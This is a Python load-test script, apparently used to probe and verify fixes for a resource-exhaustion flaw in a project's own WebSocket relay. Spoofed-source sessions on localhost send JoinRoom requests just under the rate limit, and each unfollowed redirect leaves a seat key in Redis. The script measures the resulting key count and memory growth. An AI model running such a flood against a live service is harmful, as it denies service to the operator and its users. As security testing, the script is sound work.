"""Seat tickets an attacker makes Redis keep: a holder on node 1 opens HOLD rooms with
128-byte ids; CONNS sessions on node 2 (source addresses 127.0.0.2..) each send JoinRoom for
those rooms at RATE per second (under the 50/s limit) and never follow the Redirect. Each
redirect is a `seat:<room>/<ticket>` key in Redis for 60 s (plus EXISTS, a claim script and
a SET). Prints every 5 s: redirects/s, seat keys, Redis used memory, CPU of node 2 and Redis.
Bounded: SECS + 20 s."""
import asyncio, collections, os, time
from c6 import *

CONNS = int(os.environ.get("CONNS", "20"))
RATE = float(os.environ.get("RATE", "48"))
SECS = float(os.environ.get("SECS", "60"))
HOLD = int(os.environ.get("HOLD", "16"))
ATTACK_NODE = int(os.environ.get("ATTACK_NODE", "1"))  # index: 1 = node 2
ROOMS = [("seatflood-%02d-" % i).ljust(128, "x") for i in range(HOLD)]
# (after the fixes) TARGETS=lst: target HOLD rooms lst-000000.. already held on node 1
# (rooms_setup6.py, the ids in the `rooms` index) instead of holding 16; one seat key per member x room, so many rooms
TARGETS = os.environ.get("TARGETS", "")
if TARGETS:
    ROOMS = [r for r in redis("--raw", "zrange", "tickrelay:rooms", 0, -1).splitlines() if r.startswith(TARGETS + "-")][:HOLD]
    HOLD = len(ROOMS)


async def holder(stop):
    if TARGETS:
        return
    ws = await connect(0)
    await ws.send(env(*[join(r, i + 1) for i, r in enumerate(ROOMS)]))
    msgs = await recv_msgs(ws, 2)
    pj("holder:", dict(collections.Counter(kind(m) for m in msgs)))
    while not stop.is_set():
        await recv_msgs(ws, 1)
    await ws.close()


async def attacker(idx, stats, stop):
    ws = await connect(ATTACK_NODE, src="127.0.0.%d" % (2 + idx % 250))
    seats = set()

    async def reader():
        try:
            async for data in ws:
                for m in decode(data).messages:
                    stats[kind(m)] += 1
                    if m.WhichOneof("kind") == "redirect":
                        seats.add(m.redirect.seat)
        except websockets.ConnectionClosed as e:
            stats["close:%s" % e.code] += 1
    rt = asyncio.create_task(reader())
    t0, i = time.time(), 0
    while not stop.is_set():
        i += 1
        try:
            await ws.send(env(join(ROOMS[i % HOLD], 1000 + i)))
        except Exception:
            break
        await asyncio.sleep(max(0, t0 + i / RATE - time.time()))
    stats["sent"] += i
    stats["distinct_tickets"] += len(seats)
    rt.cancel()
    await close_quietly(ws)


async def main():
    stop = asyncio.Event()
    stats = collections.Counter()
    h = asyncio.create_task(holder(stop))
    await asyncio.sleep(1.5)
    s = Sampler()
    mem0 = redis_mem()
    tasks = [asyncio.create_task(attacker(i, stats, stop)) for i in range(CONNS)]
    t0 = time.time(); last = 0
    while time.time() - t0 < SECS:
        await asyncio.sleep(5)
        r = stats["redirect"]
        pj({"t": round(time.time() - t0), "redirects/s": round((r - last) / 5), "seat_keys": count_keys("tickrelay:seat:*"),
            "redis_used_MiB": round(redis_mem() / 2**20, 1)})
        last = r
    rep = s.report()
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    seat_keys = count_keys("tickrelay:seat:*")
    mem1 = redis_mem()
    pj("stats", dict(stats))
    pj("during attack", rep)
    pj({"seat_keys": seat_keys, "redis_growth_MiB": round((mem1 - mem0) / 2**20, 1),
        "bytes_per_seat_key": round((mem1 - mem0) / max(1, seat_keys)),
        "ttl_ms_of_one": one_ttl("tickrelay:seat:*")})
    h.cancel()

asyncio.run(asyncio.wait_for(main(), SECS + 20))
